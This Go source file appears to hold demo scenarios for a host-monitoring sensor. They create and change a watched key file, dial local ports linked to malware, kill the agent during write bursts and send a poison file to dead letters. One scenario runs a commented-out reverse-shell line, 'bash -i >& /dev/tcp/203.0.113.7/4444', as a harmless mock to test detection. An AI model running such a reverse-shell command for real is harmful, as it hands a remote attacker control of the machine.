package scenario

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/apss-sensor/apss/infra/local/internal/standin"
	"github.com/apss-sensor/apss/shared/event"
)

// files makes, changes and deletes a file.
func (p *play) files(ctx context.Context) error {
	path := p.Config.Keys()
	write := func(text string) error {
		f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
		if err != nil {
			return err
		}
		_, err = f.WriteString(text)
		return errors.Join(err, f.Close())
	}
	steps := []struct {
		deed string
		typ  event.Type
		do   func() error
	}{
		{"create a watched file", event.FileCreate, func() error { return write("ssh-ed25519 AAAA someone\n") }},
		{"change it with a shell", event.FileModify, func() error {
			return shell(ctx, "echo ssh-ed25519 BBBB someone else >> "+path+"; sleep 0.3")
		}},
		{"chmod it", event.FileChmod, func() error { return os.Chmod(path, 0o666) }}, //nolint:gosec // the point of the deed
		{"delete it", event.FileDelete, func() error { return os.Remove(path) }},
	}
	g := group{name: "a watched file"}
	key := func(s *sighting) string {
		if s.path != path {
			return ""
		}
		return string(s.typ)
	}
	g.key = key
	for _, step := range steps {
		g.deeds = append(g.deeds, string(step.typ))
	}
	p.groups = append(p.groups, g)
	for _, step := range steps {
		since := time.Now()
		if err := step.do(); err != nil {
			return err
		}
		if err := p.arrived(ctx, step.deed, since, func(s *sighting) bool { return key(s) == string(step.typ) }); err != nil {
			return err
		}
	}
	return nil
}

// shell runs a line of shell.
func shell(ctx context.Context, line string) error {
	if out, err := exec.CommandContext(ctx, "sh", "-c", line).CombinedOutput(); err != nil { //nolint:gosec // the scenario's own words
		return fmt.Errorf("sh -c %q: %w: %s", line, err, out)
	}
	return nil
}

// process runs a command line that looks like a reverse shell and does nothing: the shell takes it for a comment.
func (p *play) process(ctx context.Context) error {
	const line = "sleep 1; : apss-demo # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
	key := func(s *sighting) string {
		if s.typ != event.ProcessExec || !strings.Contains(s.cmdline, "/dev/tcp/203.0.113.7/4444") {
			return ""
		}
		return line
	}
	p.groups = append(p.groups, group{name: "a suspicious process", deeds: []string{line}, key: key})
	since := time.Now()
	cmd := exec.CommandContext(ctx, "sh", "-c", line)
	if err := cmd.Start(); err != nil {
		return fmt.Errorf("running sh: %w", err)
	}
	err := p.arrived(ctx, "run a reverse shell (a mock)", since, func(s *sighting) bool { return key(s) != "" })
	return errors.Join(err, cmd.Wait())
}

// connection dials a port that malware is fond of, on this machine.
func (p *play) connection(ctx context.Context) error {
	var listener net.Listener
	var err error
	for _, port := range []int{4444, 5555, 6666, 1337} {
		if listener, err = new(net.ListenConfig).Listen(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", port)); err == nil {
			break
		}
	}
	if err != nil {
		return fmt.Errorf("looking for a suspicious port that is free: %w", err)
	}
	defer func() { _ = listener.Close() }()
	port := listener.Addr().(*net.TCPAddr).Port
	deed := fmt.Sprintf("dial port %d", port)
	key := func(s *sighting) string {
		if s.typ != event.NetworkConnect || int(s.port) != port {
			return ""
		}
		return deed
	}
	p.groups = append(p.groups, group{name: "a suspicious port", deeds: []string{deed}, key: key})
	since := time.Now()
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", listener.Addr().String())
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	return p.arrived(ctx, deed, since, func(s *sighting) bool { return key(s) != "" })
}

// burst writes numbered files at a steady pace; meanwhile the agent is killed and started again, and the receiver
// refuses everything for a while.
func (p *play) burst(ctx context.Context) error {
	before, err := p.write(ctx, burstBefore-outageBefore, "burst", nil)
	if err != nil {
		return err
	}
	if p.Broker.SetOutage(true) {
		p.tell("burst: %d files written; Pub/Sub goes out of reach", len(before))
	}
	before, err = p.write(ctx, outageBefore, "burst", before)
	if err != nil {
		return err
	}
	p.KillAgent()
	p.tell("burst: %d files written; the agent is killed (kill -9)", len(before))
	if err := p.spooled(ctx, p.Config); err != nil {
		return err
	}
	down, err := p.write(ctx, burstDown, "down", nil)
	if err != nil {
		return err
	}
	p.tell("burst: %d more files written without an agent, which starts again now", len(down))
	if p.Broker.SetOutage(false) {
		p.tell("Pub/Sub is back")
	}
	if err := p.StartAgent(ctx); err != nil {
		return err
	}
	p.tell("the agent (pid %d) is back; the receiver answers 503 for %v", p.Agent().PID(), refusal)
	p.refuse(standin.Faults{Status: 503, For: standin.Duration(refusal)})
	ends := time.Now().Add(refusal)
	after, err := p.write(ctx, burstAfter, "after", nil)
	if err != nil {
		return err
	}
	p.groups = append(p.groups,
		group{name: "burst, then the agent is killed", deeds: before, key: pathKey(before)},
		group{name: "burst, no agent", deeds: down, key: pathKey(down)},
		group{name: "burst, the receiver answers 503", deeds: after, key: pathKey(after)})
	p.tell("burst: %d more files written; %d messages wait for the receiver", len(after), p.Events().Stats().Held)
	return pause(ctx, time.Until(ends))
}

// write writes n files, each once, and returns their paths after those of done.
func (p *play) write(ctx context.Context, n int, name string, done []string) ([]string, error) {
	tick := time.NewTicker(burstPace)
	defer tick.Stop()
	for range n {
		path := filepath.Join(p.demo, "burst", fmt.Sprintf("%s-%04d", name, len(done)))
		if err := os.WriteFile(path, []byte(path), 0o600); err != nil {
			return done, err
		}
		done = append(done, path)
		select {
		case <-tick.C:
		case <-ctx.Done():
			return done, ctx.Err()
		}
	}
	return done, nil
}

// poison writes a file whose events the receiver refuses.
func (p *play) poison(ctx context.Context) error {
	path := filepath.Join(p.demo, "poison")
	p.refuse(standin.Faults{Refuse: path, RefuseWith: 422})
	p.groups = append(p.groups, group{name: "poison, refused with 422", deeds: []string{path}, key: pathKey([]string{path}), dead: true})
	p.tell("the receiver is back, and refuses one file's events with 422")
	companions, err := p.write(ctx, 5, "with-poison", nil)
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, []byte("poison"), 0o600); err != nil {
		return err
	}
	p.groups = append(p.groups, group{name: "its companions", deeds: companions, key: pathKey(companions)})
	waiting, cancel := context.WithTimeout(ctx, arrival)
	defer cancel()
	s, err := p.wait(waiting, func(s *sighting) bool { return s.path == path && s.dead > 0 })
	if err != nil {
		return fmt.Errorf("the poison is no dead letter after %v", arrival)
	}
	p.tell("poison: %s is a dead letter: %s", s.id, s.reason)
	return nil
}

func pause(ctx context.Context, d time.Duration) error {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}
